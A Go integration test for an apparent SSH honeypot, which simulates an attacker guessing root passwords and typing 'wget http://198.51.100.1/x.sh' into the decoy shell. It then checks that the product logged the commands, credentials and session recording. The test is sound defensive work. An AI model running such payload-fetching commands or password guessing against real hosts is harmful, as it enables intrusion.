//go:build integration

package integration

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	apiv1 "github.com/decnet/decnet/gen/decnet/api/v1"
	"github.com/decnet/decnet/internal/endpoints"
)

// TestDevSSHShell logs in to the SSH decoy of decnet dev with the real
// OpenSSH client on a pty, runs commands, and finds the commands, the
// download request and the session's recording through the API.
func TestDevSSHShell(t *testing.T) {
	sshBin := requireTool(t, "ssh")
	sshpass := requireTool(t, "sshpass")

	dataDir := t.TempDir()
	dev := startProcess(t, "decnet-dev", binary(t, "decnet"), "dev", "--data-dir", dataDir, "--api-listen", "127.0.0.1:0")
	ep := waitEndpoints(t, dev, dataDir, func(e endpoints.Endpoints) bool {
		_, ok := e.FindDecoy("ssh")
		return e.API != "" && ok
	})
	sshDecoy, _ := ep.FindDecoy("ssh")
	host, port := splitHostPort(t, sshDecoy.Address)

	const source = "127.0.0.20"
	ssh := func(password string, stdin string, extra ...string) ([]byte, error) {
		args := append([]string{"-p", password, sshBin,
			"-p", port,
			"-o", "BindAddress=" + source,
			"-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null",
			"-o", "ConnectTimeout=10",
			"-o", "LogLevel=ERROR",
			"-o", "PreferredAuthentications=password",
			"-o", "PubkeyAuthentication=no",
			"-o", "NumberOfPasswordPrompts=1",
		}, extra...)
		cmd := exec.Command(sshpass, append(args, "root@"+host)...)
		cmd.Stdin = strings.NewReader(stdin)
		return cmd.CombinedOutput()
	}

	// decnet dev lets a source in on its third password (login after:3).
	for _, pw := range []string{"123456", "password"} {
		if out, err := ssh(pw, ""); err == nil || !bytes.Contains(out, []byte("Permission denied")) {
			t.Fatalf("ssh with password %q: want Permission denied, got %v: %s", pw, err, out)
		}
	}
	// -tt requests a pty although stdin is a pipe, so the decoy runs its
	// interactive, recorded shell and reads the lines as typed input.
	const wgetURL = "http://198.51.100.1/x.sh"
	lines := []string{"uname -a", "wget " + wgetURL, "exit"}
	out, err := ssh("Spring2026", strings.Join(lines, "\n")+"\n", "-tt")
	if err != nil {
		t.Fatalf("ssh shell: %v: %s", err, out)
	}
	unameLine := ""
	for _, l := range strings.Split(string(out), "\n") {
		if strings.HasPrefix(l, "Linux ") && strings.Contains(l, "GNU/Linux") {
			unameLine = strings.TrimRight(l, "\r")
		}
	}
	if unameLine == "" {
		t.Fatalf("no uname -a output in the session:\n%s", out)
	}

	password, err := os.ReadFile(filepath.Join(dataDir, "admin-password"))
	if err != nil {
		t.Fatal(err)
	}
	api := newAPIClient(ep.API, nil)
	api.login(t, "admin", strings.TrimSpace(string(password)))
	ctx := context.Background()

	var events []*apiv1.StoredEvent
	eventually(t, 30*time.Second, func() error {
		if events, err = api.events(ctx); err != nil {
			return err
		}
		for _, e := range events {
			if e.GetEvent().GetKind() == "session.recorded" {
				return nil
			}
		}
		return fmt.Errorf("no session.recorded among %d events", len(events))
	})

	attackers, err := api.attackers(ctx)
	if err != nil {
		t.Fatal(err)
	}
	attacker := attackerBySource(t, attackers, source)[source]

	// The API lists the newest event first, and the commands are expected
	// in typed order. Event ids are UUIDv7, so sorting them orders by time.
	slices.SortFunc(events, func(a, b *apiv1.StoredEvent) int {
		return strings.Compare(a.GetEvent().GetId(), b.GetEvent().GetId())
	})
	var commands []string
	var downloads, recorded int
	session := ""
	for _, e := range events {
		ev := e.GetEvent()
		if ev.GetService() != "ssh" || ev.GetSource().GetAddress() != source || e.GetAttackerId() != attacker || ev.GetDecky() != sshDecoy.Decky {
			t.Errorf("event %s %s from %s, attacker %s, decky %s: want ssh from %s, attacker %s, decky %s", ev.GetKind(), ev.GetService(),
				ev.GetSource().GetAddress(), e.GetAttackerId(), ev.GetDecky(), source, attacker, sshDecoy.Decky)
		}
		switch ev.GetKind() {
		case "command":
			commands = append(commands, ev.GetCommand().GetLine())
			if ch := ev.GetCommand().GetChannel(); ch != "shell" {
				t.Errorf("command %q on channel %q, want shell", ev.GetCommand().GetLine(), ch)
			}
			session = ev.GetSessionId()
		case "download.requested":
			downloads++
			d := ev.GetDownloadRequested()
			if d.GetUrl() != wgetURL || d.GetTool() != "wget" || d.GetOutcome() != "not_fetched" || len(d.GetSha256()) != 0 || d.GetSize() != 0 {
				t.Errorf("download %v, want %s by wget, not fetched", d, wgetURL)
			}
		case "session.recorded":
			recorded++
			if r := ev.GetSessionRecorded(); r.GetInputBytes() == 0 || r.GetOutputBytes() == 0 {
				t.Errorf("session.recorded %v, want input and output counted", r)
			}
		}
	}
	for _, e := range events {
		if k := e.GetEvent().GetKind(); (k == "command" || k == "download.requested" || k == "session.recorded") && e.GetEvent().GetSessionId() != session {
			t.Errorf("%s event in session %s, want the shell's %s", k, e.GetEvent().GetSessionId(), session)
		}
	}
	if strings.Join(commands, "\n") != strings.Join(lines, "\n") {
		t.Errorf("commands %q, want %q", commands, lines)
	}
	if downloads != 1 || recorded != 1 {
		t.Errorf("%d download.requested and %d session.recorded events, want 1 each", downloads, recorded)
	}

	// Two wrong passwords, then the one that let the source in.
	creds, err := api.credentials(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, pw := range []string{"123456", "password", "Spring2026"} {
		w := wantCredential{source: source, service: "ssh", principal: "root", secretKind: "plaintext", mechanism: "ssh_password", secret: []byte(pw)}
		if n := countMatches(creds, w); n != 1 {
			t.Errorf("ssh password %q stored %d times, want 1", pw, n)
		}
	}
	for _, c := range creds {
		accepted := c.GetOutcome().String() == "AUTH_OUTCOME_ACCEPTED"
		if accepted != (string(c.GetSecret()) == "Spring2026") {
			t.Errorf("credential %q outcome %v, want only the third accepted", c.GetSecret(), c.GetOutcome())
		}
	}

	// The recording, listed and fetched through SessionService, replays
	// what the client printed.
	var list apiv1.ListSessionRecordingsResponse
	if err := api.call(ctx, "decnet.api.v1.SessionService/ListSessionRecordings", &apiv1.ListSessionRecordingsRequest{}, &list); err != nil {
		t.Fatal(err)
	}
	if len(list.GetRecordings()) != 1 {
		t.Fatalf("%d recordings, want 1", len(list.GetRecordings()))
	}
	rec := list.GetRecordings()[0]
	if rec.GetSessionId() != session || rec.GetService() != "ssh" || rec.GetSourceAddress() != source ||
		rec.GetAttackerId() != attacker || rec.GetDecky() != sshDecoy.Decky || rec.GetTruncated() {
		t.Errorf("recording %v, want ssh session %s from %s", rec, session, source)
	}
	var got apiv1.GetSessionRecordingResponse
	if err := api.call(ctx, "decnet.api.v1.SessionService/GetSessionRecording", &apiv1.GetSessionRecordingRequest{SessionId: session}, &got); err != nil {
		t.Fatal(err)
	}
	header, output := parseCast(t, got.GetCast())
	if header.Version != 2 || header.Width != rec.GetWidth() || header.Height != rec.GetHeight() || header.Width == 0 || header.Height == 0 {
		t.Errorf("cast header %+v, want version 2 and the recording's %dx%d", header, rec.GetWidth(), rec.GetHeight())
	}
	for _, want := range []string{unameLine, "uname -a", wgetURL} {
		if !strings.Contains(output, want) {
			t.Errorf("cast output lacks %q:\n%s", want, output)
		}
	}
}

// castHeader is the first line of an asciinema v2 file.
type castHeader struct {
	Version int    `json:"version"`
	Width   uint32 `json:"width"`
	Height  uint32 `json:"height"`
}

// parseCast splits an asciinema v2 document into its header and the
// concatenated output ("o") events, failing on any malformed line.
func parseCast(t *testing.T, cast []byte) (castHeader, string) {
	t.Helper()
	lines := bytes.Split(bytes.TrimRight(cast, "\n"), []byte("\n"))
	var header castHeader
	if err := json.Unmarshal(lines[0], &header); err != nil {
		t.Fatalf("cast header %q: %v", lines[0], err)
	}
	var output strings.Builder
	for _, line := range lines[1:] {
		var ev []any
		if err := json.Unmarshal(line, &ev); err != nil || len(ev) != 3 {
			t.Fatalf("cast event %q: %v", line, err)
		}
		if kind, _ := ev[1].(string); kind == "o" {
			data, _ := ev[2].(string)
			output.WriteString(data)
		}
	}
	return header, output.String()
}
